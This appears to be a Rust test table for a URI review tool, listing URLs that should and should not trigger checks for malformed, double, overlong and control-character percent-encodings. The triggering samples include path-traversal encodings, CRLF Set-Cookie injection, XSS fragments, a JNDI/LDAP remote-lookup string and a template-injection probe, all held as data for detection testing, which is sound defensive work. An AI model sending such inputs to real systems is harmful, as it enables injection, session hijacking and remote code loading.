//! Checks of percent-encodings.

use super::{Row, row};
use urilens::review::Severity::{Danger, Notice, Warning};

pub const ROWS: &[Row] = &[
    row(
        "malformed-percent",
        Warning,
        ["http://example.com/%zz", "http://example.com/?q=100%"],
        ["http://example.com/100%25", "http://example.com/%u0041"],
    ),
    row(
        "percent-u-escape",
        Warning,
        [
            "http://example.com/%u002e%u002e/",
            "http://example.com/?a=%u003Cscript%u003E",
        ],
        ["http://example.com/%75002e", "http://example.com/%u00"],
    ),
    row(
        "encoded-nul",
        Danger,
        [
            "http://example.com/a%00.png",
            "http://example.com/?f=a%252500",
        ],
        ["http://example.com/a%30", "http://example.com/a%25300"],
    ),
    row(
        "encoded-crlf",
        Danger,
        [
            "http://example.com/%0D%0ASet-Cookie:a",
            "http://example.com/?l=%E5%98%8D%E5%98%8ASet-Cookie:a",
        ],
        [
            "http://example.com/%0Ca",
            "mailto:a@example.com?subject=a&body=one%0D%0Atwo",
        ],
    ),
    row(
        "encoded-control",
        Warning,
        ["http://example.com/%1B[2J", "http://example.com/%C2%9B2J"],
        ["http://example.com/%20", "http://example.com/%C2%A1"],
    ),
    row(
        "double-encoding",
        Warning,
        [
            "http://example.com/%252e%252e/",
            "http://example.com/?%2561=b",
        ],
        ["http://example.com/100%25", "http://example.com/%25zz"],
    ),
    row(
        "double-encoding",
        Notice,
        ["http://example.com/?a=%2520", "http://example.com/#%252F"],
        ["http://example.com/?a=100%25", "http://example.com/?a=%20"],
    ),
    row(
        "overlong-utf8",
        Danger,
        [
            "http://example.com/%C0%AE%C0%AE/",
            "http://example.com/%F0%80%80%AF",
        ],
        ["http://example.com/%C3%80", "http://example.com/%E0%A4%85"],
    ),
    row(
        "invalid-utf8",
        Notice,
        ["http://example.com/%E9", "http://example.com/%ED%A0%80"],
        ["http://example.com/%C3%A9", "http://example.com/%C0%AE"],
    ),
    row(
        "encoded-alnum",
        Warning,
        [
            "http://example.com/%61dmin",
            "http://example.com/?%70assword=x",
        ],
        ["http://example.com/%7Euser", "http://%65xample.com/"],
    ),
    row(
        "markup-payload",
        Warning,
        [
            "http://example.com/?q=%3Cscript%3E",
            "http://example.com/?q=%2522%253E%253Cx%20OnClick%20%3Dalert(1)",
        ],
        [
            "http://example.com/?q=a%3Cb",
            "http://example.com/?onclick=1",
        ],
    ),
    row(
        "markup-payload",
        Warning,
        [
            "http://example.com/?q=%3Ca%20href%3D%22javascript%3Ax%22%3E",
            "http://example.com/?q=%26lt%3Bform%20action%3D//example.net%3E",
        ],
        ["http://example.com/?q=1%3C2", "http://example.com/links"],
    ),
    row(
        "template-payload",
        Warning,
        [
            "http://example.com/?x=${jndi:ldap://example.net/a}",
            "http://example.com/%257B%257B7*7%257D%257D",
        ],
        ["http://example.com/{id}", "http://example.com/?a=$b"],
    ),
];
